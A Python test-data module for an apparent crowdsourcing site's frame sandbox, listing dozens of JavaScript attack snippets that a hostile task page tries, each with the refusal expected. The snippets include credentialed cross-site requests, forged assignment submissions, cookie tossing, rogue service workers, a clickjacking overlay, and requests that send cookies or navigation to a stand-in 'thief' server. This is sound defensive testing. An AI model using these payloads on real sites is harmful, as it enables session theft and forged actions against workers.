"""What a hostile task tries. Each of `QUIET` is tried on one page, each of `LOUD` on a page and in a window of its own.

An attack is the body of an asynchronous function. It has `it`: the addresses of the site and of the thief's server, the
Worker's other assignment and another group of HITs; what it returns is its loot. What must come of it is a pattern for
`got …`, what it has got hold of, or `refused …`, the error it met; on origins of their own and without origin alike,
unless a second pattern says otherwise.
"""

from __future__ import annotations

from typing import NamedTuple

REFUSED = r"refused (SecurityError|TypeError|NotAllowedError|NetworkError|NotSupportedError|AbortError)"
FAILED = r"got (failed|nothing)"


class Attack(NamedTuple):
    """What is tried, and what may come of it."""

    script: str
    expected: str
    without_origin: str = ""


QUIET = {
    # ------------------------------------------------------------------ reading what is the site's
    "read the parent's document": Attack("return parent.document.body.innerHTML", REFUSED),
    "read the top's address": Attack("return top.location.href", REFUSED),
    "read the parent's storage": Attack("return parent.localStorage.length", REFUSED),
    "read the parent's databases": Attack("return (await parent.indexedDB.databases()).length", REFUSED),
    "read the parent's history": Attack("return parent.history.length", REFUSED),
    "run a script in the parent": Attack("return parent.eval('1')", REFUSED),
    "define a function in the parent": Attack("parent.submit = () => 1; return 'set'", REFUSED),
    "reach the frame's element": Attack(
        "return frameElement === null ? 'nothing' : frameElement.src", FAILED, "got nothing|" + REFUSED
    ),
    "read cookies": Attack("return document.cookie || 'nothing'", "got nothing", REFUSED),
    "learn the work page's address": Attack("return document.referrer || 'nothing'", "got nothing"),
    "find something in the window's name": Attack("return name || 'nothing'", "got nothing"),
    "find an opener": Attack("return opener ? 'opener' : 'nothing'", "got nothing"),
    "share a domain with the site": Attack("document.domain = 'localhost'; return parent.document.title", REFUSED),
    "read the queue with cookies": Attack(
        "return (await fetch(it.site + '/tasks?format=json', {credentials: 'include'})).text()", REFUSED
    ),
    "read a page with cookies": Attack(
        "return (await fetch(it.site + '/dashboard', {credentials: 'include'})).text()", REFUSED
    ),
    "read it by XMLHttpRequest": Attack(
        "return new Promise((done) => { const sent = new XMLHttpRequest(); sent.withCredentials = true;"
        " sent.onload = () => done(sent.responseText); sent.onerror = () => done('failed');"
        " sent.open('GET', it.site + '/account'); sent.send(); })",
        FAILED,
    ),
    "load the queue as a script": Attack(
        "return loaded('script', {src: it.site + '/tasks?format=json'})", "got failed"
    ),
    "load a page as a style sheet": Attack(
        "return loaded('link', {rel: 'stylesheet', href: it.site + '/tasks'})", "got failed"
    ),
    "listen to the alerts": Attack(
        "return new Promise((done) => { const heard = new EventSource(it.site + '/alerts', {withCredentials: true});"
        " heard.onopen = () => done('open'); heard.onerror = () => { heard.close(); done('failed'); }; })",
        "got failed",
    ),
    "import the site's script": Attack("return Object.keys(await import(it.site + '/static/work.js'))", REFUSED),
    "frame the site": Attack(
        "await loaded('iframe', {src: it.site + '/account', id: 'framed'});"
        " return document.getElementById('framed').contentDocument?.body?.innerHTML || 'nothing'",
        "got nothing",
    ),
    "embed the site": Attack(
        "return loaded('embed', {src: it.site + '/tasks', type: 'text/html'}).then(() => 'nothing')", "got nothing"
    ),
    "get at the top by a page within": Attack(
        "const inner = document.createElement('iframe'); inner.srcdoc = '<p>x'; document.body.append(inner);"
        " await new Promise((done) => inner.onload = done);"
        " return inner.contentWindow.top.document.title",
        REFUSED,
    ),
    "get at the top by a blob": Attack(
        "const page = new Blob([`<script>parent.loot = (() => { try { return top.document.title } catch (e)"
        " { return e.name } })()</` + `script>`], {type: 'text/html'});"
        " await loaded('iframe', {src: URL.createObjectURL(page)});"
        " await new Promise((done) => setTimeout(done, 100)); return window.loot || 'nothing'",
        "got (SecurityError|nothing)",
    ),
    # ------------------------------------------------------------------ acting as the Worker
    "accept by fetch": Attack("return sent(it.site + it.accept, {method: 'POST'})", "got opaque|" + REFUSED),
    "accept by a plain request": Attack("return sent(it.site + it.accept, {})", "got opaque|" + REFUSED),
    "accept by a picture": Attack("return loaded('img', {src: it.site + it.accept})", "got failed"),
    "accept by a beacon": Attack("return String(navigator.sendBeacon(it.site + it.accept, 'a=b'))", "got (true|false)"),
    "accept ahead of time": Attack(
        "return loaded('link', {rel: 'prefetch', href: it.site + it.accept})", "got (loaded|failed|nothing)"
    ),
    "return by fetch": Attack(
        "return sent(it.site + it.otherWork, {method: 'POST', body: new URLSearchParams({_method: 'delete'})})",
        "got opaque|" + REFUSED,
    ),
    "submit another assignment by fetch": Attack(
        "return sent(it.site + it.otherSubmit, {method: 'POST', body: new URLSearchParams({assignment_id: it.other})})",
        "got opaque|" + REFUSED,
    ),
    "submit another assignment to its task host": Attack(
        "return sent(it.otherTask + '/mturk/externalSubmit', {method: 'POST',"
        " body: new URLSearchParams({assignmentId: it.other, colour: 'stolen'})})",
        "got opaque|" + REFUSED,
    ),
    "sign out by fetch": Attack("return sent(it.site + '/signout', {method: 'POST'})", "got opaque|" + REFUSED),
    "make an API token": Attack(
        "return sent(it.site + '/account/tokens', {method: 'POST', body: new URLSearchParams({name: 'x'})})",
        "got opaque|" + REFUSED,
    ),
    "send a form with a guessed token": Attack(
        "return sent(it.site + it.otherSubmit, {method: 'POST', headers: {'X-CSRF-Token': 'guess'}, mode: 'cors'})",
        REFUSED,
    ),
    "ask for what is half done in another assignment": Attack(
        "return new Promise((done) => { addEventListener('message', ({data}) => data?.draft && done('a draft'));"
        " parent.postMessage({assignmentId: it.other, asks: 'draft'}, '*'); later(300).then(() => done('nothing')); })",
        "got nothing",
    ),
    "hand over for another assignment": Attack(
        "parent.postMessage(JSON.stringify({assignmentId: it.other, answer: {colour: 'stolen'}}), '*');"
        " await later(200); return 'nothing'",
        "got nothing",
    ),
    "hand over what is no answer": Attack(
        "for (const odd of [null, 7, {}, '{', 'null', '[]', JSON.stringify({assignmentId: [it.own]}),"
        " JSON.stringify({assignmentId: it.own, pairs: 'all'}), JSON.stringify({assignmentId: it.own, pairs: [1]})])"
        " parent.postMessage(odd, '*'); await later(200); return 'nothing'",
        "got nothing",
    ),
    # ------------------------------------------------------------------ staying, tossing, taking the screen
    "toss cookies to the site": Attack(
        "for (const domain of ['', '; domain=localhost', '; domain=kempelen.localhost', '; domain=127.0.0.1'])"
        " for (const name of ['kempelen_session', `kempelen_session_${new URL(it.site).port}`, '__Host-session'])"
        " document.cookie = `${name}=thief${domain}; path=/`; return 'nothing'",
        "got nothing",
        REFUSED,
    ),
    "fill the jar of cookies": Attack(
        "for (let n = 0; n < 400; n++) document.cookie = `c${n}=${'x'.repeat(200)}; domain=localhost; path=/`;"
        " return 'nothing'",
        "got nothing",
        REFUSED,
    ),
    "install a service worker of ours": Attack(
        "const ours = it.task + '/stand-ins/externalHIT_v1.js';"
        " return (await navigator.serviceWorker.register(ours, {scope: '/stand-ins/'})).scope",
        REFUSED,
    ),
    "install a service worker of its own": Attack(
        "return (await navigator.serviceWorker.register('data:text/javascript,1')).scope", REFUSED
    ),
    "install itself as a service worker": Attack(
        "return (await navigator.serviceWorker.register(location.href)).scope", REFUSED
    ),
    "take the whole screen unasked": Attack(
        "await document.documentElement.requestFullscreen(); return 'full'", REFUSED
    ),
    "use the camera that the site may use": Attack(
        "return (await navigator.mediaDevices.getUserMedia({video: true})).id", "refused NotAllowedError", REFUSED
    ),
    "use the microphone that the site may use": Attack(
        "return (await navigator.mediaDevices.getUserMedia({audio: true})).id", "refused NotAllowedError", REFUSED
    ),
    "learn the place that the site may know": Attack(
        "return new Promise((done) => navigator.geolocation.getCurrentPosition("
        "() => done('place'), ({code}) => done(code === 1 ? 'nothing' : 'unknown')))",
        "got nothing",
    ),
    "send the parent elsewhere by script": Attack(
        "parent.location = 'javascript:alert(1)'; await later(100); return 'nothing'", "got nothing|" + REFUSED
    ),
    "send the top elsewhere unasked": Attack(
        "top.location = it.thief + '/top'; await later(100); return 'nothing'", "got nothing|" + REFUSED
    ),
    "collect cookies by a picture": Attack("return loaded('img', {src: it.thief + '/img'})", "got (loaded|failed)"),
    "collect cookies by a picture under the site's name": Attack(
        "return loaded('img', {src: it.neighbour + '/img'})", "got (loaded|failed)"
    ),
    "collect cookies in a frame within under the site's name": Attack(
        "return loaded('iframe', {src: it.neighbour + '/frame'})", "got (loaded|failed)"
    ),
    "collect cookies by a request under the site's name": Attack(
        "return sent(it.neighbour + '/fetch', {credentials: 'include'})", "got opaque|" + REFUSED
    ),
    "collect cookies by a request": Attack(
        "return sent(it.thief + '/fetch', {credentials: 'include'})", "got opaque|" + REFUSED
    ),
}

# Done in the handler of a real click, which browsers allow more.
LOUD = {
    "send the top elsewhere": "top.location = it.thief + '/top'",
    "send the parent elsewhere": "parent.location.replace(it.thief + '/parent')",
    "follow a link that is for the top": "click('a', {href: it.thief + '/link', target: '_top'})",
    "send a form to the top": "post(it.thief + '/form', {a: 1}, '_top')",
    "submit another assignment in the parent": "post(it.site + it.otherSubmit, {assignment_id: it.other}, '_parent')",
    "open accepting": "open(it.site + it.accept)",
    "post accepting to a new window": "post(it.site + it.accept, {}, '_blank')",
    "post returning to a new window": "post(it.site + it.otherWork, {_method: 'delete'}, '_blank')",
    "post submitting to a new window": "post(it.site + it.otherSubmit, {assignment_id: it.other}, '_blank')",
    "post signing out to a new window": "post(it.site + '/signout', {}, '_blank')",
    "open the finish of another assignment": (
        "post(it.site + '/mturk/externalSubmit', {assignmentId: it.other, colour: 'x'}, '_blank')"
    ),
    "script a window of the site": (
        "const w = open(it.site + '/account'); setInterval(() => { try { loot = w.document.title } catch {} }, 20)"
    ),
    "hand over another assignment by our own page": (
        "post('/mturk/externalSubmit', {assignmentId: it.other, colour: 'stolen'}, '_self')"
    ),
    "go away and forge the message there": "location = it.thief + '/forge?own=' + it.other",
    "forge the message in a frame within": "click('iframe', {src: it.thief + '/forge?own=' + it.own})",
    "frame the site in its own place": "location = it.site + '/tasks'",
    "go away to the site's name on another port": "location = it.neighbour + '/away'",
    "open the thief's server": "open(it.thief + '/popup')",
    "cover the page": (
        "const veil = document.createElement('div'); veil.style.cssText = 'position:fixed;inset:-9999px;"
        "z-index:2147483647;background:red'; document.body.append(veil); document.body.style.height = '99999px'"
    ),
}
